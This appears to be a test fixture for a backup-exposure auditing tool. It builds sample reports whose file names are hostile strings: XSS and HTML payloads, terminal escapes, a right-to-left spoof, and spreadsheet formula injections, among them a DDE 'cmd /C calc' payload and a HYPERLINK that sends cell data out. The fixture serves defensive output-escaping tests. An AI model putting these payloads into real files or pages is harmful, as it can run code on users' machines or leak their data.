import { Buffer } from 'node:buffer'
import { pathText } from '../../src/audit/io/system-path.ts'
import type { Finding, Report } from '../../src/shared/report.ts'

/** File names that want to be more than text, by what they try. */
export const hostileNames: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>.crypt15',
  image: '<img src=x onerror=alert(1)>',
  attribute: `" onmouseover="alert(1)" x='`,
  'end of style': '</style><style>*{display:none}</style>',
  comment: '--><!-- msgstore',
  entity: '&lt;b&gt;&#60;&quot;',
  template: '$\u007balert(1)}`{{x}}',
  'right-to-left override': 'photo\u202Egpj.crypt15',
  'line breaks': 'a\nb\r\nc\u2028d\u2029e',
  'terminal escape': '\u001b[31mred\u001b]0;title\u0007',
  'zero bytes and C1': 'a\u0000b\u009bc\u007f',
  'zero width': 'a\u200bb\ufeffc\u00add',
  'lone surrogate': 'a\ud83db',
  'invalid UTF-8': pathText(Buffer.from([0x61, 0xff, 0xfe, 0x5c, 0x62])),
  '255 bytes': `${'ä'.repeat(127)}x`,
  'very long': `${'long/'.repeat(6000)}name"; =1`,
  formula: '=HYPERLINK("http://x.invalid?"&A1,"click")',
  'plus, minus, at': '+1-1@SUM(1)',
  DDE: `-2+3+cmd|' /C calc'!A0`,
  'at sign': '@SUM(1+1)*cmd',
  'tab first': '\t=1+1',
  'return first': '\r=1+1',
  'space first': '  =1+1',
  'quote first': '"=1+1',
  'semicolon inside': 'a;=1+1',
  'semicolon and quotes inside': 'a;"=1+1&"',
  'full-width': '＝1+1',
  null: 'null',
  undefined: 'undefined',
  prototype: '__proto__',
  empty: '',
  Hebrew: 'משפחה/גיבוי',
}

const finding = (path: string): Finding => ({
  path,
  kind: 'android-backup',
  format: 'crypt15',
  app: 'messenger',
  readableBy: 'anyone',
  complete: null,
  reason: `Anyone can read ${path}`,
  evidence: [{ fact: `${path} is named so`, where: path }],
  size: 7,
  modifiedAt: '2026-11-21T02:00:00.000Z',
  place: 'p',
  backup: 'b',
})

/** A report in which every text that comes from files is this name. */
export const reportAbout = (name: string, more: Partial<Report> = {}): Report => ({
  schemaVersion: 1,
  generator: { name: 'sealwatch', version: '0.1.0' },
  startedAt: '2026-11-22T10:00:00.000Z',
  finishedAt: '2026-11-22T10:00:01.000Z',
  places: [
    { id: 'p', label: name, path: name, kind: 'folder', state: 'ok' },
    { id: 'q', label: name, path: `${name}/q`, kind: 'folder', state: 'no permission' },
  ],
  findings: [finding(name)],
  backups: [{ id: 'b', label: name, readableBy: 'anyone', findings: 1 }],
  skipped: [{ path: `${name}/s`, reason: 'no permission' }],
  summary: { 'only-you': 0, 'password-holder': 0, unknown: 0, whatsapp: 0, anyone: 1, worst: 'anyone' },
  ...more,
})
